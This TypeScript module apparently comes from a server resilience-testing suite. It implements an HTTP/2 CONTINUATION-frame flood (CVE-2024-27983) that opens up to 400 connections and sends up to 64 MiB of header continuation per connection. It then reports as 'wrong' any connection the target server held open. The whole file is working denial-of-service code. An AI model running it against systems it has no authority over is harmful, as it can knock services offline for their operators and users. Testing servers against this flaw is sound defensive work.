import { type Attack, createTally, repeat } from "./attack.js";
import { frameTypes, writeFrame } from "./h2-frames.js";
import { grpcHeaders, openH2, unaryPath } from "./h2-session.js";
import { hpackLiteral } from "./hpack.js";

const mostBytes = 64 * 2 ** 20;

/**
 * A header block that goes on in CONTINUATION frames without end
 * (CVE-2024-27983).
 */
export const continuationFlood: Attack = {
  name: "continuation-flood",
  what: "header blocks that go on in CONTINUATION frames of 16 KiB, up to 64 MiB each",
  unit: "connections",
  full: { count: 400, holdMs: 0 },
  quick: { count: 20, holdMs: 0 },
  async run(target, { count }) {
    const tally = createTally();
    const frame = writeFrame(
      frameTypes.continuation,
      0,
      1,
      hpackLiteral("x", "y".repeat(16_000)),
    );
    await repeat(count, 16, async () => {
      const connection = await openH2(target);
      await connection.write(
        writeFrame(frameTypes.headers, 0, 1, grpcHeaders(unaryPath)),
      );
      let sent = 0;
      while (sent < mostBytes && (await connection.write(frame))) {
        sent += frame.length;
        await new Promise((resolve) => setImmediate(resolve));
      }
      await connection.until(() => false, 1_000);
      tally.add(connection.isClosed() ? "cut" : "held");
      tally.add("KiB sent", Math.round(sent / 1_024));
      connection.leave();
    });
    const wrong =
      tally.counts.held === undefined
        ? []
        : [`${tally.counts.held} connections were held`];
    return { counts: tally.counts, wrong };
  },
};
